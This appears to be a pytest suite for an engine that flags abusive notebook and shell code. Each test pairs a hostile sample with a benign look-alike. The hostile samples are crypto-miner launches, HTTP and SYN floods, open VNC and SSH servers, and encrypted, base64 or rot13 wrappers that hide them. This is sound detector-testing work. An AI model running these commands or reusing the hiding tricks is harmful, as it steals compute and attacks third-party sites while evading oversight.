@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
@pytest.mark.parametrize("body", ["printf '%s' \"$1\" | base64 -d", "base64 -d <<<\"$1\""])
def test_a_shell_function_that_decodes_is_read_where_a_substitution_calls_it(engine, tool, blocked, body):
    """A ``%%bash`` cell with a one-line decoding function (``_d(){ printf '%s' "$1" | base64 -d; }``, or a here
    string) and ``t=$(_d ...)``: the substitution gives the function's output, so ``$t`` names the program (and
    ``$1`` is the function's argument, not a Python name for IPython to fill in). The look-alike lists GPUs."""
    encoded = base64.b64encode(tool.encode()).decode()
    cell = (f"%%bash\n_d(){{ {body}; }}\nt=$(_d {encoded})\n"
            "./$t -o pool.example.net:3333 -u W\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("image, blocked", [("metal3d/xmrig", True), ("jupyter/scipy-notebook", False)])
def test_a_compose_file_written_by_python_is_read_as_compose(engine, image, blocked):
    """``Path('stack/docker-compose.yml').write_text(compose)`` with the compose text made in the cell, then
    ``docker compose up``: the services it writes are what runs. The look-alike starts a notebook image."""
    cell = ("import pathlib, subprocess, textwrap\n"
            f"compose = textwrap.dedent('''\nservices:\n  worker:\n    image: {image}\n"
            "    command: [\"-o\", \"pool.example.org:443\", \"-u\", \"W\"]\n''')\n"
            "pathlib.Path('stack/docker-compose.yml').write_text(compose)\n"
            "subprocess.run(['docker', 'compose', '-f', 'stack/docker-compose.yml', 'up', '-d'])\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("program, flagged", [("rtorrent", True), ("htop", False)])
def test_su_with_a_long_command_option_runs_its_command(engine, program, flagged):
    """``su --login --command="TERM=xterm rtorrent" seedbox`` (the ``--command=`` spelling, with an environment
    assignment in front): the command is what runs, as with ``su -c``. The look-alike starts a process viewer."""
    verdict = engine.check_code(f"#!/bin/sh\nsu --login --command=\"TERM=xterm {program}\" seedbox\n", "shell")
    assert (verdict.action in ("warn", "block") and verdict.category == "torrent_p2p") is flagged


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
def test_json_decoded_from_bytes_and_a_template_popped_from_it_are_read(engine, tool, blocked):
    """``d = json.loads(base64.b64decode(blob))`` (JSON read from bytes) and ``Template(d.pop('t')).substitute(d)``:
    the command the settings make. The look-alike lists GPUs the same way."""
    spec = json.dumps({"b": f"./{tool}", "h": "pool.example.net:3333", "t": "$b -o $h -u W"})
    blob = base64.b64encode(spec.encode()).decode()
    cell = ("import base64, json, string, subprocess\n"
            f"d = json.loads(base64.b64decode({blob!r}))\n"
            "line = string.Template(d.pop('t')).substitute(d)\nsubprocess.Popen(line, shell=True)\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
def test_a_runner_chosen_by_a_conditional_expression_runs_its_line(engine, tool, blocked):
    """``(sp.Popen if background else sp.run)(line, shell=True)`` for each step of a table: whichever runner is
    chosen, the line runs. The look-alike lists GPUs the same way."""
    cell = ("import subprocess as sp\n"
            f"steps = [('echo start', False), ('{tool} -o pool.example.net:3333 -u W', True)]\n"
            "for line, background in steps:\n    (sp.Popen if background else sp.run)(line, shell=True)\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
def test_steps_read_back_from_a_docstring_by_inspect_getdoc_are_run(engine, tool, blocked):
    """``for line in build_steps(): subprocess.run(line.format(...), shell=True)`` where ``build_steps`` returns the
    rot13 lines of its own docstring through ``inspect.getdoc``: each step runs. The look-alike lists GPUs."""
    hidden = codecs.encode(f"{tool} -o {{0}} -u W", "rot13")
    cell = ("import codecs, inspect, subprocess\ndef build_steps():\n"
            f"    \"\"\"\n    {hidden}\n    \"\"\"\n"
            "    return [codecs.decode(l, 'rot13') for l in inspect.getdoc(build_steps).splitlines()]\n"
            "for line in build_steps():\n    subprocess.run(line.format('pool.example.net:3333'), shell=True)\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
@pytest.mark.parametrize("given", ["sys.argv", "parse_args list"])
def test_argparse_options_parsed_in_the_cell_are_known(engine, tool, blocked, given):
    """An ``argparse`` parser declared in the cell, its options given by ``sys.argv = [...]`` set in the cell or by
    ``parse_args([...])``, and the program a default: ``args.exe`` and ``args.pool`` read as those values, and a
    command joined from them (one part unknown) is still read. The look-alike lists GPUs the same way."""
    words = "['--pool', 'pool.example.net:3333', '--load', '90']"
    cell = ("import argparse, os, sys\n"
            + (f"sys.argv = ['nb'] + {words}\n" if given == "sys.argv" else "") +
            f"ap = argparse.ArgumentParser()\nap.add_argument('--exe', default='./' + {tool!r})\n"
            "ap.add_argument('--pool')\nap.add_argument('--load', type=int, default=75)\n"
            "ap.add_argument('--rig', default='nb' + str(os.getpid()))\n"
            + ("args = ap.parse_args()\n" if given == "sys.argv" else f"args = ap.parse_args({words})\n") +
            "os.system(' '.join([args.exe, '-o', args.pool, '-u', 'W.' + args.rig]))\n")
    assert (engine.check_code(cell).action == "block") is blocked, given


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
def test_eval_reads_its_words_as_a_command_line(engine, tool, blocked):
    """``eval "$cmd --flag"`` in a ``%%bash`` cell: bash reads the words again as a command, so the program the
    variable names is what runs. The look-alike lists GPUs."""
    cell = f"%%bash\ncmd={tool}\neval \"$cmd -o pool.example.net:3333 -u W >/dev/null\"\n"
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xmrig", True), ("nvidia-smi", False)])
def test_a_one_line_loop_over_variable_names_fills_each_indirection(engine, tool, blocked):
    """``for v in s1 s2; do eval "nohup ${!v} &"; done``: the loop's words name the script's variables, and
    ``${!v}`` is each one's value in turn. The look-alike lists GPUs."""
    cell = (f"%%bash\ns1=\"sleep 1\"\ns2=\"{tool} -o pool.example.net:3333 -u W\"\n"
            "for v in s1 s2; do eval \"nohup ${!v} >/dev/null 2>&1 &\"; done\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xm" "rig", True), ("nvidia-smi", False)])
def test_a_settings_dict_handed_on_from_one_function_to_the_next_is_read_in_both(engine, tool, blocked):
    """``run_experiment(EXP)`` calls ``prepare(cfg)`` with its own parameter: both functions, each called once, hold
    the same dict, so the program the helper builds from ``cfg['backend']`` is known. The look-alike lists GPUs."""
    cell = ("import os, subprocess\n"
            f"EXP = {{'backend': '{tool}', 'endpoint': 'pool.example.net:3333', 'account': 'W'}}\n"
            "def prepare(cfg):\n    return os.path.join('/opt', cfg['backend'])\n"
            "def run_experiment(cfg):\n    binary = prepare(cfg)\n"
            "    return subprocess.Popen([binary, '-o', cfg['endpoint'], '-u', cfg['account']])\n"
            "job = run_experiment(EXP)\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xm" "rig", True), ("nvidia-smi", False)])
def test_a_profile_chosen_by_next_and_taken_apart_by_itemgetter_is_read(engine, tool, blocked):
    """``chosen = next(filter(fits, profiles))`` with a test the folder cannot decide, then ``exe, url =
    itemgetter('exe', 'url')(chosen)``: the first profile the test may keep is the one read, and ``itemgetter`` takes
    its fields. The look-alike lists GPUs."""
    cell = ("import subprocess\nfrom operator import itemgetter\n"
            f"profiles = [{{'name': 'cpu', 'exe': './{tool}', 'url': 'pool.example.net:3333'}}]\n"
            "want = input('kind? ')\nchosen = next(filter(lambda p: p['name'] == want, profiles))\n"
            "exe, url = itemgetter('exe', 'url')(chosen)\nsubprocess.Popen([exe, '-o', url, '-u', 'W'])\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xm" "rig", True), ("nvidia-smi", False)])
def test_a_table_of_functions_made_from_a_dict_of_names_is_read(engine, tool, blocked):
    """``ops = {k: getattr(os, v) for k, v in {'go': 'sys' + 'tem'}.items()}`` then ``ops['go'](cmd)``: each key's
    function is the attribute its value names, so the call is ``os.system``. The look-alike lists GPUs."""
    cell = ("import os\nops = {k: getattr(os, v) for k, v in {'go': 'sys' + 'tem', 'cwd': 'get' + 'cwd'}.items()}\n"
            f"ops['go']('{tool} -o pool.example.net:3333 -u W')\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xm" "rig", True), ("nvidia-smi", False)])
@pytest.mark.parametrize("test", ["os.name == 'nt'", "sys.platform.startswith('win')", "platform.system() == 'Windows'"])
def test_a_cross_platform_choice_takes_the_linux_side(engine, tool, blocked, test):
    """``name + ('.exe' if os.name == 'nt' else '')``: the code runs on a Linux notebook server, so the platform
    tests read as they do there and the program is named. The look-alike lists GPUs."""
    cell = ("import os, sys, platform, shutil, subprocess\n"
            f"exe = shutil.which('{tool}' + ('.exe' if {test} else '')) or '/opt/bin/x'\n"
            "subprocess.Popen([exe, '-o', 'pool.example.net:3333', '-u', 'W'])\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("name, blocked", [("xm" "rig", True), ("miniz", False)])
def test_attributes_set_together_in_init_are_known_where_a_method_uses_them(engine, name, blocked):
    """``self.name, self.version = name, version`` in ``__init__`` (one tuple assignment), the object made in a
    function the prefilter never looks at, and a method that downloads ``{self.name}-{self.version}``: the focused
    walk keeps the constructor's assignment, so the release's name is known. The look-alike fetches a zip library."""
    cell = ("import subprocess\nTOOL = '" + name + "'\nclass Fetcher:\n    def __init__(self, name, version):\n"
            "        self.name, self.version = name, version\n    def ensure(self):\n"
            "        base = f'https://github.com/{self.name}/{self.name}/releases/download/v{self.version}'\n"
            "        subprocess.run(['wget', '-q', f'{base}/{self.name}-{self.version}-linux-static-x64.tar.gz'])\n"
            "def main():\n    Fetcher(TOOL, '6.21.0').ensure()\nmain()\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("cpu", True), ("nvidia-smi", False)])
def test_a_runner_handed_in_as_a_default_parameter_runs_its_command(engine, tool, blocked):
    """``def __init__(self, system=os.system): self._system = system`` and ``self._system(cmd)``: a runner
    injected by default is that runner. The look-alike lists GPUs."""
    cell = ("import os\nclass Launcher:\n    def __init__(self, system=os.system):\n        self._system = system\n"
            "    def __call__(self, cmd):\n        return self._system(f'nohup {cmd} &')\n"
            f"Launcher()('./' + '{tool}' + ('miner' if '{tool}' == 'cpu' else '') + ' -a scrypt -u W')\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("line, blocked", [("sshd -D", True), ("ssh-keygen -l -f key.pub", False)])
@pytest.mark.parametrize("interpreter", [["bash", "-s"], ["sh"], ["python3", "-"]])
def test_a_program_handed_to_an_interpreter_on_its_input_runs(engine, line, blocked, interpreter):
    """``subprocess.run(['bash', '-s'], input=script)``: an interpreter with no script of its own reads the program
    from its input, so the decoded text runs (an SSH server started). The look-alike prints a key's fingerprint."""
    program = line if interpreter[0] != "python3" else f"import os\nos.system({line!r})"
    blob = base64.b64encode(program.encode()).decode()
    cell = (f"import base64, subprocess\nsubprocess.run({interpreter!r}, input=base64.b64decode('{blob}'))\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xm" "rig", True), ("nvidia-smi", False)])
def test_a_process_started_by_anyio_from_a_function_run_in_a_thread_is_read(engine, tool, blocked):
    """``anyio.open_process(argv)`` starts a program like ``subprocess.Popen``; its argv comes from a settings dict
    that ``anyio.to_thread.run_sync(fetch, cfg)`` hands a helper. The look-alike lists GPUs."""
    cell = ("import anyio\ncfg = {'name': '" + tool + "', 'url': 'pool.example.net:3333'}\n"
            "def fetch(c):\n    return '/tmp/pkg/' + c['name']\n"
            "async def main():\n    exe = await anyio.to_thread.run_sync(fetch, cfg)\n"
            "    async with await anyio.open_process([exe, '-o', cfg['url'], '-u', 'W']) as proc:\n"
            "        print(await proc.stdout.receive())\nanyio.run(main)\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("tool, blocked", [("xm" "rig", True), ("nvidia-smi", False)])
@pytest.mark.parametrize("magic", ["%env TOOL={}", "%env TOOL {}", "%set_env TOOL={}"])
def test_a_variable_set_by_the_env_magic_is_what_os_environ_reads(engine, tool, blocked, magic):
    """``%env TOOL=xmrig`` sets the variable for the code after it, so ``os.environ['TOOL']`` names the program.
    The look-alike lists GPUs."""
    cell = (magic.format(tool) + "\nimport os\n"
            "os.system(os.environ['TOOL'] + ' -o pool.example.net:3333 -u W')\n")
    assert (engine.check_code(cell).action == "block") is blocked


@pytest.mark.parametrize("call,category", [
    ("client.containers.run('ubuntu:22.04', \"bash -c 'apt-get install -y openssh-server && service ssh start'\", "
     "detach=True, ports={'22/tcp': 2222})", "remote_desktop_ssh"),
    ("client.containers.run(image='xmrig/xmrig', command=['-o', 'pool.example.net:3333', '-u', WALLET])",
     "crypto_mining"),
    ("box = client.containers.run('debian:12', 'sleep infinity', detach=True)\n"
     "box.exec_run('x11vnc -display :1 -forever -nopw -rfbport 5900')", "remote_desktop_ssh"),
    ("client.containers.run('pytorch/pytorch:2.3.0-cuda12.1', ['python', 'train.py', '--epochs', '3'])", None),
    ("box = client.containers.run('postgres:16', detach=True)\nbox.exec_run('pg_isready -U postgres')", None),
])
def test_dockers_sdk_runs_what_the_command_line_would(engine, call, category):
    """``client.containers.run(image, command)`` and ``container.exec_run(cmd)`` are ``docker run`` and
    ``docker exec``: the image and the command are read as the command line's are."""
    verdict = engine.check_code(f"import docker\nclient = docker.from_env()\nWALLET = '44Abc'\n{call}\n")
    assert (verdict.category if verdict.action != "allow" else None) == category


@pytest.mark.parametrize("argv,action", [
    (["docker", "exec", "-u", "root", "box", "x11vnc", "-display", ":1", "-forever", "-nopw"], "block"),
    (["podman", "exec", "-it", "box", "sh", "-c", "hashcat -m 0 -a 0 h.txt rockyou.txt"], "block"),
    (["docker", "exec", "-it", "box", "python", "train.py", "--epochs", "3"], "allow"),
])
def test_a_command_run_in_a_container_is_checked(engine, argv, action):
    """``docker exec CONTAINER command`` runs the command: the agent's view of the process is read through it."""
    assert engine.check_command(argv).action == action


@pytest.mark.parametrize("command,action", [
    ("git clone https://github.com/someone/ditto-talkinghead && cd ditto-talkinghead && "
     "python -m streamlit run web_ui.py", "warn"),
    ("ss-server -s 0.0.0.0 -p 8388 -k pw -m aes-256-gcm", "block"),
    ("pip install -r requirements.txt && python train.py --epochs 3", "allow"),
])
def test_a_method_that_wraps_a_runner_runs_what_its_own_class_hands_it(engine, command, action):
    """``self.run_cmd(cmd)`` inside the class that defines ``run_cmd`` (a setup manager's helper) runs the command
    as much as ``Setup().run_cmd(cmd)`` does."""
    cell = ("import subprocess\nclass Setup:\n    def run_cmd(self, cmd, timeout=300):\n"
            "        r = subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=timeout)\n"
            "        return r.returncode == 0\n    def go(self):\n"
            f"        return self.run_cmd({command!r})\nSetup().go()\n")
    assert engine.check_code(cell).action == action


@pytest.mark.parametrize("line,action", [
    ("!npx -y autocannon -c 3000 -d 3600 https://shop.example.org/search", "block"),
    ("!bunx --bun autocannon@7 -c 2000 -d 600 https://shop.example.org/", "block"),
    ("!npx -y autocannon -c 10 -d 10 http://localhost:3000/", "allow"),
    ("!npx -y prettier --write src/", "allow"),
])
def test_a_package_runner_runs_the_packages_program(engine, line, action):
    """``npx -y autocannon ...`` runs autocannon with those arguments: read as if it were called by its name."""
    assert engine.check_code(line).action == action


@pytest.mark.parametrize("line,action", [
    ("!conda run --no-capture-output -n rig xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8Ae", "block"),
    ("!apptainer exec --nv -B /data tools.sif hping3 --flood -S -p 80 203.0.113.9", "block"),
    ("!conda run -n train python train.py --epochs 3", "allow"),
    ("!apptainer exec --nv tools.sif nvidia-smi", "allow"),
    ("!srun -J t -N1 --time=01:00:00 slowhttptest -c 4000 -H -r 400 -l 3600 -u https://shop.example.org/", "block"),
    ("!srun -J t -N1 --gres gpu:1 python train.py", "allow"),
])
def test_an_environment_or_container_runner_runs_its_command(engine, line, action):
    """``conda run -n env prog`` (also mamba, pixi, poetry, uv) and ``apptainer exec IMAGE prog`` run ``prog`` with
    those arguments: read as if it were called by its name. The look-alikes train a model and query the GPU."""
    assert engine.check_code(line).action == action


@pytest.mark.parametrize("tool, flagged_", [("hping3", True), ("rsync", False)])
def test_a_wrapper_whose_argv_holds_a_line_it_built_first_is_read(engine, tool, flagged_):
    """``def bg(name, argv, log): inner = " ".join(argv) + ...; run(["tmux", "new", "-d", "-s", name, inner])``:
    the argv list names a local the wrapper built from its parameters, read through what it was made of. The
    look-alike backs a folder up in the same detached session."""
    words = "['--flood', '-S', '-p', '80', '203.0.113.9']" if tool == "hping3" else "['-a', 'data/', '/backup/']"
    cell = ("import subprocess\ndef bg(name, argv, log):\n    inner = ' '.join(argv) + f' > {log} 2>&1'\n"
            "    subprocess.run(['tmux', 'new-session', '-d', '-s', name, inner])\n"
            f"argv = [{tool!r}, *{words}]\nbg('job', argv, '/tmp/job.log')")
    verdict = engine.check_code(cell)
    assert (verdict.action in ("warn", "block") and verdict.category == "dos_attack") is flagged_, verdict.to_dict()
    if not flagged_:
        assert_allowed(engine, cell)


@pytest.mark.parametrize("tail, flagged_", [
    ('["-f", "flv", INGEST + open("/content/key.txt").read().strip()]', True),
    ('["-movflags", "+faststart", "/content/out/" + open("/content/name.txt").read().strip()]', False),
])
def test_an_argv_grown_by_a_loop_over_options_then_by_a_value_read_at_run_time(engine, tail, flagged_):
    """``for k, v in opts.items(): argv += [k, v]`` over a dict the cell spells out adds each option in turn, and a
    last ``argv += [..., INGEST + key]`` whose key is read at run time keeps the rest with ``{key}`` in its place,
    so the line that runs is read whole. The look-alike transcodes to a local file the same way."""
    cell = ("import subprocess\nINGEST = 'rtmp://live.example.com/app/'\n"
            "opts = {'-stream_loop': '-1', '-f': 'concat', '-safe': '0', '-i': '/content/list.txt', '-c:v': 'libx264'}\n"
            f"argv = ['ffmpeg', '-re']\nfor k, v in opts.items():\n    argv += [k, v]\nargv += {tail}\n"
            "subprocess.run(['tmux', 'new-session', '-d', '-s', 'job', ' '.join(argv)])")
    verdict = engine.check_code(cell)
    assert (verdict.action in ("warn", "block") and verdict.category == "web_file_hosting") is flagged_, \
        verdict.to_dict()
    if not flagged_:
        assert_allowed(engine, cell)


@pytest.mark.parametrize("script, blocked", [
    ("xmrig -o pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33 --donate-level 0", True),
    ("pip install -q rich && python report.py --out summary.html", False),
])
def test_a_script_printed_from_array_parts_and_decoded_into_a_shell_is_read(engine, script, blocked):
    """``seg=( "..." "..." )`` written over several lines, then ``run() { printf '%s' "${seg[@]}" | base64 -d | sh; }``:
    the parts joined, decoded and piped into a shell are the script that runs. The look-alike installs a package
    and writes a report the same way."""
    encoded = b64(script)
    parts = "\n".join(f'  "{encoded[i:i + 24]}"' for i in range(0, len(encoded), 24))
    cell = f"%%bash\nseg=(\n{parts}\n)\nrun() {{ printf '%s' \"${{seg[@]}}\" | base64 -d | sh; }}\nrun\n"
    if blocked:
        assert_miner_blocked(engine, cell)
    else:
        assert_allowed(engine, cell)


@pytest.mark.parametrize("script, flagged_", [
    ("apt-get -qq install -y hping3\nhping3 -S --flood -p 80 198.51.100.40 &\nwait", True),
    ("apt-get -qq install -y htop\nhtop -d 10 &\nwait", False),
])
def test_a_multi_line_script_decoded_by_a_shell_function_is_read(engine, script, flagged_):
    """``decode() { echo "$1" | rev | base64 -d; }; job=$(decode "$blob"); eval "$job"``: the substitution gives a
    script of several lines, read like any other. The look-alike starts a process monitor the same way."""
    blob = b64(script)[::-1]
    cell = f"%%bash\nblob='{blob}'\ndecode() {{ echo \"$1\" | rev | base64 -d; }}\njob=$(decode \"$blob\")\neval \"$job\"\n"
    verdict = engine.check_code(cell)
    assert (verdict.action in ("warn", "block") and verdict.category == "dos_attack") is flagged_, verdict.to_dict()
    if not flagged_:
        assert_allowed(engine, cell)


FIXED_KEY = b"ZmVybmV0LWtleS13cml0dGVuLWluLXRoZS1jZWxsLTA="  # 32 bytes, url-safe base64: a Fernet key
FERNET_KEYS = {  # how the cell writes its key, and the key that gives
    "written": (repr(FIXED_KEY), FIXED_KEY),
    "digest": ("base64.urlsafe_b64encode(hashlib.sha256(b'sync-key').digest())",
               base64.urlsafe_b64encode(hashlib.sha256(b"sync-key").digest())),
    "stretched": ("base64.urlsafe_b64encode(hashlib.pbkdf2_hmac('sha256', b'drive-sync', b'salt1234', 1000))",
                  base64.urlsafe_b64encode(hashlib.pbkdf2_hmac("sha256", b"drive-sync", b"salt1234", 1000))),
}


@pytest.mark.parametrize("command, blocked", [
    ("xmrig -o pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33 --donate-level 0", True),
    ("python train.py --epochs 3 --out /content/model.pt", False),
])
@pytest.mark.parametrize("how", list(FERNET_KEYS))
def test_a_command_encrypted_with_fernet_and_a_key_in_the_cell_is_read(engine, command, blocked, how):
    """``Fernet(key).decrypt(token)`` with the key in the cell (written out, a digest of a constant, or stretched
    from a constant password) is as readable as base64: the command it gives is the one that runs. The look-alike
    hides a training run the same way."""
    fernet = pytest.importorskip("cryptography.fernet")  # (the analysis decrypts only where it is installed)
    written, key = FERNET_KEYS[how]
    token = fernet.Fernet(key).encrypt(command.encode()).decode()
    cell = (f"import base64, hashlib, subprocess\nfrom cryptography.fernet import Fernet\nkey = {written}\n"
            f"job = Fernet(key).decrypt({token!r}.encode()).decode()\nsubprocess.run(job, shell=True)")
    if blocked:
        assert_miner_blocked(engine, cell)
    else:
        assert_allowed(engine, cell)


@pytest.mark.parametrize("line, flagged_", [
    ("xmrig -o pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33 --donate-level 0", True),
    ("pytest -q tests/", False),
])
def test_invoke_contexts_run_their_line_in_a_shell(engine, line, flagged_):
    """``c = invoke.Context(); c.run(line)`` runs the line in a local shell, like ``os.system``; the look-alike runs
    a project's tests the same way."""
    cell = f"from invoke import Context\nc = Context()\nc.run({line!r}, warn=True, asynchronous=True)"
    if flagged_:
        assert_miner_blocked(engine, cell)
    else:
        assert_allowed(engine, cell)


@pytest.mark.parametrize("tail, flagged_", [
    ('"-f", "flv", "rtmp://live.example.com/app/KEY123"', True),
    ('"-movflags", "+faststart", "/content/out.mp4"', False),
])
@pytest.mark.parametrize("run", ["enc[args] & BG", "enc[args]()", "enc(*args)"])
def test_a_plumbum_command_runs_its_program_with_the_arguments_it_is_given(engine, tail, flagged_, run):
    """plumbum's ``local["ffmpeg"]`` is the program: ``enc[args] & BG``, ``enc[args]()`` and ``enc(*args)`` run it
    with those arguments. The look-alike transcodes to a local file the same way."""
    cell = ("from plumbum import local, BG\nenc = local['ffmpeg']\n"
            "args = ['-re', '-stream_loop', '-1', '-i', '/content/list.txt', '-c:v', 'libx264', " + tail + "]\n" + run)
    verdict = engine.check_code(cell)
    assert (verdict.action in ("warn", "block") and verdict.category == "web_file_hosting") is flagged_, \
        verdict.to_dict()
    if not flagged_:
        assert_allowed(engine, cell)


@pytest.mark.parametrize("target, flood", [("http://shop.example.net/", True), ("http://127.0.0.1:8000/", False)])
def test_an_f_string_conversion_quotes_the_value_it_writes(engine, target, flood):
    """``f"T = {target!r}"`` writes the value quoted, as Python does: a worker script written this way parses, so
    the flood it runs is read. The look-alike's worker loads its own local server the same way."""
    cell = (f"import subprocess, textwrap\ntarget = {target!r}\n"
            "worker = textwrap.dedent(f\'\'\'\n    import requests, threading\n    T = {target!r}\n"
            "    def hit():\n        while True:\n            requests.get(T)\n"
            "    for _ in range(500):\n        threading.Thread(target=hit).start()\n\'\'\')\n"
            "open('/content/job.py', 'w').write(worker)\nsubprocess.run(['python3', '/content/job.py'])")
    verdict = engine.check_code(cell)
    assert (verdict.action in ("warn", "block") and verdict.category == "dos_attack") is flood, verdict.to_dict()


@pytest.mark.parametrize("parts, flagged_", [(("slow", "http", "test"), True), (("ht", "op"), False)])
def test_a_tool_name_glued_from_short_literals_wakes_a_reading_of_the_whole_cell(engine, parts, flagged_):
    """``shutil.which("slow" + "httptest")`` moved to another name and run from a later line: the glued name wakes
    the analysis, which then reads the whole cell (the name flows to where it runs), not only the lines with a
    trigger word. The look-alike renames a process viewer the same way."""
    glued = " + ".join(repr(p) for p in parts)
    cell = (f"import shutil, subprocess\nsrc = shutil.which({glued})\nshutil.move(src, '/usr/local/bin/daemon')\n"
            "subprocess.Popen(['daemon', '-c', '4000', '-H', '-u', 'http://shop.example.net/'])")
    verdict = engine.check_code(cell)
    assert (verdict.action in ("warn", "block") and verdict.category == "dos_attack") is flagged_, verdict.to_dict()
